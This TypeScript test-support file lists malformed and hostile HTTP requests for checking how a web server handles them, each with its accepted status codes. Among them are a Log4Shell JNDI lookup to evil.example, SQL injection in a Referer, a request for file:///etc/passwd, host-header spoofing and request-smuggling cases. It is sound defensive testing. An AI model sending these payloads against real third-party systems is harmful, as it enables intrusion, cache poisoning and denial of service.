import { PAGE_PATH } from '@/tests/support/content'
import type { Attempt, RawAttempt } from '@/tests/support/hostile/attempt'

const NO_METHOD = [400, 403, 404, 405]
/** The server may answer that it does not know the method, coding or version (RFC 9110, 15.6.2 and 15.6.6). */
const NOT_UNDERSTOOD = [0, 400, 405, 413, 414, 429, 431, 501, 505]

const METHODS = [
  ...['TRACE', 'PROPFIND', 'MKCOL', 'COPY', 'MOVE', 'LOCK', 'SEARCH', 'PURGE', 'REPORT', 'MERGE'],
  ...['PATCH', 'PUT', 'DELETE', 'POST', 'OPTIONS', 'LINK', 'SUBSCRIBE', 'M-SEARCH', 'ACL', 'BIND'],
]

const methods = METHODS.flatMap((method) =>
  [PAGE_PATH, '/sitemap.xml', '/healthz', '/appels/prevenir/confirmer/x'].map((path): Attempt => ({
    tries: `${method} ${path}`,
    method,
    path,
    allowed: NO_METHOD,
  })),
)

const page = (headers: Record<string, string>, tries: string, closed: number[] = []): Attempt => ({
  tries,
  path: PAGE_PATH,
  headers,
  allowed: [200, 206, 304, 400, 412, 416, 431, ...closed],
})

const HEADERS = [
  page({ Range: 'bytes=0-0' }, 'the first byte'),
  page({ Range: `bytes=${'0-1,'.repeat(1_000)}0-2` }, '1,000 ranges'),
  page({ Range: 'bytes=9-1' }, 'a reversed range'),
  page({ Range: 'bytes=-99999999999999999999' }, 'a range that overflows'),
  page({ 'If-None-Match': `"a",`.repeat(3_000) }, '3,000 entity tags'),
  page({ 'If-None-Match': `W/"${'a'.repeat(9_000)}"` }, 'an entity tag of 9,000 characters'),
  page({ 'If-None-Match': '*' }, 'any entity tag'),
  page({ 'If-Match': '"x"', 'If-Unmodified-Since': 'x' }, 'conditions that cannot be met'),
  page({ 'If-Modified-Since': '9'.repeat(5_000) }, 'an invalid date'),
  page({ 'Accept-Encoding': 'a;q=0.1,'.repeat(1_200) }, '1,200 encodings'),
  page({ 'Accept-Encoding': 'gzip;q=2, *;q=-1, br;q=NaN' }, 'encodings with odd weights'),
  page({ 'Accept-Language': 'x-a;q=0.1,'.repeat(1_000) }, '1,000 languages'),
  page({ 'Accept-Language': '-'.repeat(9_000) }, 'a language of 9,000 hyphens'),
  page({ Accept: `${'a/b;q=0.1,'.repeat(900)}*/*` }, '900 types'),
  page({ Cookie: 'a=b; '.repeat(2_000) }, '2,000 cookies'),
  page({ Cookie: `payload-token=${'a'.repeat(9_000)}` }, 'a session token of 9,000 letters'),
  page({ Cookie: '__proto__=a; constructor=b; =; ;;' }, 'cookies with odd names'),
  page({ Cookie: '%'.repeat(9_000) }, 'a cookie with broken percent-encodings'),
  page({ Forwarded: 'for=a;'.repeat(1_000), Via: 'a, '.repeat(1_000) }, 'a long chain of proxies'),
  page({ 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'javascript' }, 'another host'),
  page({ 'X-Forwarded-Port': '99999', 'X-Forwarded-Prefix': '/evil' }, 'another port'),
  page(
    { 'User-Agent': '${jndi:ldap://evil.example/a}', Referer: "' or 1=1 --" },
    'an injection into a log',
  ),
  page({ 'User-Agent': 'a'.repeat(9_000) }, 'a browser with a long name'),
  page({ Origin: 'null', 'Sec-Fetch-Site': 'x', 'Sec-Fetch-Mode': 'x' }, 'odd fetch metadata'),
  page({ 'Content-Length': '0', 'Content-Type': '\t' }, 'a type that is a tab'),
  page(
    { Upgrade: 'websocket', Connection: 'Upgrade', 'Sec-WebSocket-Key': 'a' },
    'a WebSocket',
    [0],
  ),
  page(
    { Upgrade: 'h2c', Connection: 'Upgrade, HTTP2-Settings', 'HTTP2-Settings': 'a' },
    'HTTP/2',
    [0],
  ),
  page({ Connection: 'Host, Cookie, X-Forwarded-For' }, 'headers that a proxy should drop'),
  page({ Host: 'evil.example' }, 'a request for another site'),
  page({ Host: 'localhost:99999' }, 'an invalid port'),
  page({ Host: 'a'.repeat(2_000) }, 'a long host name'),
]

const raw = (
  tries: string,
  lines: string | ((host: string) => string),
  allowed?: readonly number[],
): RawAttempt => ({
  tries,
  bytes: (host) => Buffer.from(typeof lines === 'string' ? lines : lines(host), 'latin1'),
  allowed,
})

const start = (host: string, method = 'GET', path = PAGE_PATH) =>
  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n`

/** A GET of `path`, which is sent exactly as written. */
const address = (tries: string, path: string | ((host: string) => string), allowed: number[]) =>
  raw(
    tries,
    (host) => `${start(host, 'GET', typeof path === 'string' ? path : path(host))}\r\n`,
    allowed,
  )

const header = (tries: string, line: string, allowed = [0, 200, 400, 431]) =>
  raw(tries, (host) => `${start(host)}${line}\r\n\r\n`, allowed)

const login = (tries: string, headers: string, body: string, allowed = NOT_UNDERSTOOD) =>
  raw(
    tries,
    (host) =>
      `${start(host, 'POST', '/api/users/login')}Content-Type: application/json\r\n${headers}\r\n\r\n${body}`,
    allowed,
  )

const PIECES = 'Transfer-Encoding: chunked'
const UNKNOWN = 'Transfer-Encoding: x'
/** The server may also read the request and refuse the log-in. */
const READ = [...NOT_UNDERSTOOD, 401]
const TLS = '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'

const FRAMING = [
  raw('text that is not HTTP', 'bonjour\r\n\r\n', NOT_UNDERSTOOD),
  raw('the start of TLS', TLS.padEnd(60, '\0'), NOT_UNDERSTOOD),
  raw('the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', NOT_UNDERSTOOD),
  raw('HTTP/0.9', `GET ${PAGE_PATH}\r\n`, [...NOT_UNDERSTOOD, 200]),
  raw('HTTP/1.0 without a host', `GET ${PAGE_PATH} HTTP/1.0\r\n\r\n`, [200, 400]),
  raw('HTTP/3.0', (host) => `GET / HTTP/3.0\r\nHost: ${host}\r\n\r\n`, NOT_UNDERSTOOD),
  raw('HTTP/1.1 without a host', `GET ${PAGE_PATH} HTTP/1.1\r\nConnection: close\r\n\r\n`, [400]),
  header('two hosts', 'Host: evil.example'),
  raw('an invalid host', `GET / HTTP/1.1\r\nHost: a b\r\n\r\n`, [0, 200, 307, 400]),
  address('an absolute address', (host) => `http://${host}${PAGE_PATH}`, [200, 400, 404]),
  address('the address of another site', 'http://evil.example/', [200, 307, 308, 400, 404]),
  address('the address of a file', 'file:///etc/passwd', [400, 404]),
  raw('the address *', (host) => start(host, 'OPTIONS', '*') + '\r\n', [200, 400, 404, 405]),
  raw(
    'a tunnel',
    `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n`,
    [0, 400, 405],
  ),
  address('an address with a space', '/a b', [400, 404]),
  address('an address with a null character', '/a\0b', [0, 400]),
  address('an address in Latin-1', '/caf\xe9', [400, 404]),
  address('an address without a slash', 'x', [400, 404]),
  address('an address with a fragment', '/a#b', [200, 400, 404]),
  raw('a method in lower case', (host) => start(host, 'get') + '\r\n', NOT_UNDERSTOOD),
  raw(
    'a method of 5,000 letters',
    (host) => start(host, 'A'.repeat(5_000)) + '\r\n',
    NOT_UNDERSTOOD,
  ),
  raw(
    'lines that end with only a line feed',
    (host) => start(host).replaceAll('\r', '') + '\n',
    [0, 200, 400],
  ),
  header('a header with a null character', 'X-A: a\0b'),
  header('a header without a name', ': a'),
  header('a header with a space before its colon', 'X-A : a'),
  header('a header on two lines', 'X-A: a\r\n b'),
  header('a header without a colon', 'abc'),
  header('a header name with odd characters', 'X-(A): b'),
  header('200 headers', Array.from({ length: 200 }, (_, index) => `X-${index}: a`).join('\r\n')),
  header(
    '3,000 headers',
    Array.from({ length: 3_000 }, (_, index) => `X-${index}: a`).join('\r\n'),
  ),
  header('a header of 12,000 characters', `X-A: ${'a'.repeat(12_000)}`),
  header('a header of 100,000 characters', `X-A: ${'a'.repeat(100_000)}`),
  header('a header name of 10,000 characters', `${'X'.repeat(10_000)}: a`),
  header('a header with bytes that are not text', 'X-A: \xff\xfe\x80'),
  header('a response in a header', 'X-A: a\rHTTP/1.1 200 OK'),
  login('two lengths', 'Content-Length: 2\r\nContent-Length: 3', '{}x'),
  login('a length and chunks', `Content-Length: 2\r\n${PIECES}`, '0\r\n\r\n'),
  login('a negative length', 'Content-Length: -1', '{}'),
  login('a length in words', 'Content-Length: deux', '{}'),
  login('a length that overflows', 'Content-Length: 99999999999999999999', '{}'),
  login('30 million bytes announced', 'Content-Length: 30000000', ''.padEnd(100), [400, 413]),
  login('an unknown coding', 'Transfer-Encoding: gzip', '{}'),
  login('the same coding twice', `${PIECES}, chunked`, '0\r\n\r\n'),
  login('a coding behind a tab', `${PIECES.replace(' ', '\t')}\r\n${UNKNOWN}`, '0\r\n\r\n'),
  login('chunks without a size', PIECES, 'zz\r\n{}\r\n0\r\n\r\n'),
  login('chunks that are larger than announced', PIECES, '1\r\n{}{}{}\r\n0\r\n\r\n'),
  login('a chunk whose size overflows', PIECES, 'FFFFFFFFFFFFFFFFF\r\n{}\r\n'),
  login('a chunk of negative size', PIECES, '-2\r\n{}\r\n0\r\n\r\n'),
  login('a chunk with 20,000 extensions', PIECES, `2;${'a=b;'.repeat(20_000)}\r\n{}\r\n0\r\n\r\n`),
  login('500 trailers', PIECES, `0\r\n${'X-A: b\r\n'.repeat(500)}\r\n`, READ),
  login('2,000 chunks of one byte', PIECES, `${'1\r\n \r\n'.repeat(2_000)}0\r\n\r\n`, READ),
  login('an unknown expectation', 'Expect: 200-ok\r\nContent-Length: 2', '{}', [...READ, 417]),
  login('a body after 100 Continue', 'Expect: 100-continue\r\nContent-Length: 2', '{}', [
    ...[100, 400, 401, 405],
  ]),
  raw(
    '60 requests at once',
    (host) => `GET ${PAGE_PATH} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(60),
    [200, 429],
  ),
  raw(
    '200 requests for missing pages',
    (host) =>
      Array.from(
        { length: 200 },
        (_, i) => `HEAD /nul-${i} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      ).join(''),
    [404, 429],
  ),
  raw(
    'a request within a body',
    (host) =>
      `${start(host, 'POST')}Content-Length: 40\r\n\r\nGET /admin HTTP/1.1\r\nHost: ${host}\r\n\r\n`.padEnd(
        400,
      ),
    [400, 405],
  ),
]

export const methodsAndFraming = (): (Attempt | RawAttempt)[] => [
  ...methods,
  ...HEADERS,
  ...FRAMING,
]
